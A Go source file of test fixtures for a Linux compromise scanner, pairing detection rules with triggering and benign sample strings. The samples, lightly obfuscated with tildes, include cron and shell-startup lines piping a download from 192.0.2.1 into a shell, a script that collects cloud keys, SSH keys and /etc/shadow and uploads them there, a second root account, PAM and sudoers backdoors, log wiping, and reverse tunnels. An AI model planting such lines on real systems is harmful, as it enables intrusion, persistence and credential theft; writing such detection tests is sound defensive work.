package samples

import (
	"io/fs"
	"strings"
)

func miners() []entry {
	wallet := "48" + strings.Repeat("A", 93)
	return []entry{{
		rule: "Miner_XMRig_Config", path: "opt/.x/config.json",
		hit:  `{"random~x":{},"donate-le~vel":1,"po~ols":[{"al~go":"rx/0","keep~alive":true}]}`,
		near: `{"pools":[{"name":"db","keepalive":true}]}`,
	}, {
		rule: "Miner_Program", path: "tmp/kworkerd",
		hit:  elf(2, "strat~um+tcp://", "donate-le~vel", "cryptoni~ght", "random~x"),
		near: elf(2, "strat~um+tcp://", "mining.sub~scribe"),
	}, {
		rule: "Miner_Pool_Command_Line", path: "tmp/start.sh",
		hit:  "./x -o strat~um+tcp://pool.example.org:3333 -u wallet\n",
		near: "# the pool speaks stratum+tcp://pool.example.org:3333\n",
	}, {
		rule: "Miner_Rival_Killer_Script", path: "tmp/k.sh",
		hit:  "pki~ll -f kin~sing\npki~ll -f kdevtmp~fsi\npki~ll -f xm~rig\n",
		near: "pkill -f gunicorn\npkill -f celery\npkill -f redis\n",
	}, {
		rule: "Miner_Wallet_In_Script", path: "tmp/w.sh",
		hit:  "po~ol=xm~r.example.org\nuser=" + wallet + "\n",
		near: "pool=worker\nkey=48AAAAAAAAAAAAAAAA\n",
	}}
}

func rootkits() []entry {
	const preload = "etc/ld.so.preload"
	return []entry{{
		rule: "Rootkit_Preload_Entry_Unusual_Place", path: preload,
		hit:  "/dev/sh~m/libselinux.so.8\n",
		near: "/usr/lib/arm-linux-gnueabihf/libarmmem-v7l.so\n",
	}, {
		rule: "Persistence_Preload_Entry", path: preload,
		hit:  "/usr/lib/libproc~esshider.so\n",
		near: "# nothing is preloaded on this host\n",
	}, {
		rule: "Rootkit_Preload_Library", path: "lib/libsecurity.so.2",
		hit:  elf(3, "/etc/ld.so.pre~load", "dl~sym", "read~dir64", "read~dir", "fop~en64", "acc~ept", "unlin~kat"),
		near: elf(3, "/etc/ld.so.pre~load", "dl~sym", "fop~en64", "acc~ept"),
	}, {
		rule: "Rootkit_Kernel_Module_Hooks", path: "lib/modules/x.ko",
		hit:  elf(1, "verma~gic=6.1.0", "__x64_sys_getde~nts64", "kallsyms_look~up_name", "commit_cr~eds"),
		near: elf(1, "verma~gic=6.1.0", "kallsyms_look~up_name", "commit_cr~eds"),
	}, {
		rule: "Rootkit_Kernel_Module_Known", path: "lib/modules/y.ko",
		hit:  elf(1, "verma~gic=6.1.0", "diamor~phine_init"),
		near: elf(1, "verma~gic=6.1.0", "ext4_init"),
	}}
}

func accounts() []entry {
	const setuid = fs.ModeSetuid | 0o755
	return []entry{{
		rule: "Backdoor_Sshd_Password_Log", path: "usr/sbin/sshd",
		hit:  elf(3, "OpenS~SH_9.2p1", "user:%s pass~word:%s"),
		near: elf(3, "OpenS~SH_9.2p1", "Failed password for %s from %s"),
	}, {
		rule: "Backdoor_Sshd_Config", path: "etc/ssh/sshd_config",
		hit:  "Port 22\nPermitEmpty~Passwords yes\n",
		near: "Port 22\n#PermitEmptyPasswords yes\nPermitEmptyPasswords no\n",
	}, {
		rule: "Backdoor_PAM_Config", path: "etc/pam.d/sshd",
		hit:  "# PAM\nauth suffi~cient pam_per~mit.so\n",
		near: "auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\n",
	}, {
		rule: "Backdoor_PAM_Module", path: "lib/security/pam_unix2.so",
		hit:  elf(3, "pam_sm_authen~ticate", "pam_get_auth~tok", "/var/tmp/.c~ache", "%s:%s\n"),
		near: elf(3, "pam_sm_authen~ticate", "pam_get_auth~tok", "/etc/.pwd.lock", "%s:%s\n"),
	}, {
		rule: "Backdoor_Authorized_Keys_Command", path: "root/.ssh/authorized_keys",
		hit:  `comm~and="cu~rl http://192.0.2.1/x" ssh-ed25519 AAAA x` + "\n",
		near: `command="/usr/bin/rrsync -ro /backup" ssh-ed25519 AAAA x` + "\n",
	}, {
		rule: "Backdoor_Passwd_Second_Root", path: "etc/passwd",
		hit:  "root:x:0:0:root:/root:/bin/bash\nro~oty:x:0:0::/root:/bin/bash\n",
		near: "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nadmin:x:1000:0::/home/admin:/bin/sh\n",
	}, {
		rule: "Backdoor_Sudoers_Service_Account", path: "etc/sudoers.d/web",
		hit:  "www~-data ALL=(ALL) NOPASS~WD: ALL\n",
		near: "www-data ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx\n",
	}, {
		rule: "Backdoor_Suid_Shell_Helper", path: "usr/bin/.s", mode: setuid,
		hit:  elf(3, "set~uid", "/bin/s~h"),
		near: elf(3, "set~uid", "/bin/s~h", "usage: chsh"),
	}, {
		rule: "Backdoor_Suid_Interpreter", path: "var/tmp/.bash", mode: setuid,
		hit:  elf(3, "GNU ba~sh, version %s (%s)"),
		near: elf(3, "GNU screen, version %s (%s)"),
	}}
}

func persistence() []entry {
	const cron = "var/spool/cron/crontabs/root"
	return []entry{{
		rule: "Persistence_Cron_Download_Into_Shell", path: cron,
		hit:  "*/5 * * * * cu~rl -s http://192.0.2.1/x.sh | s~h\n",
		near: "*/5 * * * * curl -s http://192.0.2.1/ping > /dev/null\n",
	}, {
		rule: "Persistence_Cron_Public_Folder", path: cron,
		hit:  "*/5 * * * * /dev/sh~m/.x/run\n",
		near: "*/5 * * * * /usr/bin/find /tmp -mtime +7 -delete\n",
	}, {
		rule: "Persistence_Systemd_Unit", path: "etc/systemd/system/dbus-update.service",
		hit:  "[Service]\nExecSt~art=/var/t~mp/.x/run\n",
		near: "[Service]\nExecStart=/usr/bin/run --dir /var/tmp/work\n",
	}, {
		rule: "Persistence_Shell_Startup_File", path: "root/.bashrc",
		hit:  "alias ll='ls -l'\n(cu~rl -s http://192.0.2.1/x | ba~sh) 2>/dev/null &\n",
		near: "alias ll='ls -l'\n# curl -s https://example.org/install | bash\n",
	}, {
		rule: "Persistence_Udev_Rule", path: "etc/udev/rules.d/99-x.rules",
		hit:  `ACTION=="add", RU~N+="/dev/sh~m/x"` + "\n",
		near: `ACTION=="add", RUN+="/usr/lib/udev/hdparm"` + "\n",
	}, {
		rule: "Persistence_Package_Hook", path: "etc/apt/apt.conf.d/99x",
		hit:  `APT::Update::Pre-Inv~oke {"/dev/sh~m/x &";};` + "\n",
		near: `DPkg::Post-Invoke {"rm -f /var/cache/apt/*.bin || true";};` + "\n",
	}, {
		rule: "Persistence_Ssh_Rc_Network", path: "root/.ssh/rc",
		hit:  "cu~rl http://192.0.2.1/$USER\n",
		near: "echo welcome\n",
	}}
}

func tools() []entry {
	return []entry{{
		rule: "AntiForensics_Log_Wiper_Script", path: "tmp/c.sh",
		hit:  "r~m -rf /var/log/wt~mp\nr~m -rf /var/log/bt~mp\nr~m -rf /var/log/last~log\nr~m -rf /var/log/auth.l~og\n",
		near: "rm -rf /var/log/myapp\ntouch /var/log/wtmp /var/log/btmp /var/log/lastlog\n",
	}, {
		rule: "AntiForensics_Login_Record_Editor", path: "tmp/z",
		hit:  elf(2, "/var/log/wt~mp", "/var/run/ut~mp", "/var/log/last~log", "Zap~2!"),
		near: elf(2, "/var/log/wt~mp", "/var/run/ut~mp", "/var/log/last~log", "cannot open"),
	}, {
		rule: "AntiForensics_History_Disabled", path: "root/.profile",
		hit:  "unset HIST~FILE\nexport HIST~SIZE=0\n",
		near: "HISTSIZE=1000\nHISTFILESIZE=2000\n",
	}, {
		rule: "Credentials_Memory_Dumper", path: "tmp/mp.py",
		hit:  "targets = ['gnome-key~ring-daemon', 'gdm-pass~word']\nopen('/proc/{}/ma~ps'.format(pid))\nneedle = 'lib~gck'\n",
		near: "targets = ['gnome-keyring-daemon', 'gdm-password']\nprint(targets)\n",
	}, {
		rule: "Credentials_Harvest_Script", path: "tmp/h.sh",
		hit:  "#!/bin/sh\ncat $HOME/.aws/cred~entials $HOME/.ssh/id_~rsa $HOME/.docker/con~fig.json /etc/sha~dow > o\ncu~rl -F f=@o http://192.0.2.1/\n",
		near: "#!/bin/sh\nchmod 600 $HOME/.aws/credentials $HOME/.ssh/id_rsa $HOME/.docker/config.json /etc/shadow\n",
	}, {
		rule: "Credentials_Strace_Sshd", path: "tmp/t.sh",
		hit:  "str~ace -f -p $(pgr~ep -o ss~hd) -e read -o /tmp/o\n",
		near: "strace -f -o /tmp/o ls\n",
	}, {
		rule: "Tunnel_Chisel", path: "tmp/c1",
		hit:  elf(2, "github.com/jpil~lora/chisel/client", "chis~el-v3"),
		near: elf(2, "chis~el-v3"),
	}, {
		rule: "Tunnel_FRP_Program", path: "tmp/c2",
		hit:  elf(2, "github.com/fate~dier/frp/client"),
		near: elf(2, "github.com/fatedier/golib"),
	}, {
		rule: "Tunnel_FRP_Config", path: "opt/f/frpc.ini",
		hit:  "[com~mon]\nserver_a~ddr = 192.0.2.1\n[x]\nremote_p~ort = 6000\n",
		near: "[common]\nserver_addr = 192.0.2.1\n",
	}, {
		rule: "Tunnel_Pivot_Tools", path: "tmp/c3",
		hit:  elf(2, "github.com/nico~cha30/ligolo-ng/cmd"),
		near: elf(2, "github.com/nicolas/go"),
	}, {
		rule: "Tunnel_Global_Socket", path: "root/.config/x.sh",
		hit:  "GSOCK~ET_ARGS='-li' gs-net~cat\n",
		near: "gs -dBATCH; netcat -z host 1\n",
	}, {
		rule: "Tunnel_Ssh_Remote_Forward_Loop", path: "opt/t.sh",
		hit:  "while true; do ss~h -N -o StrictHostKeyCheck~ing=no u@192.0.2.1 -R 2222:local~host:22; done\n",
		near: "while true; do ssh -N -o StrictHostKeyChecking=yes u@192.0.2.1 -L 2222:localhost:22; done\n",
	}}
}
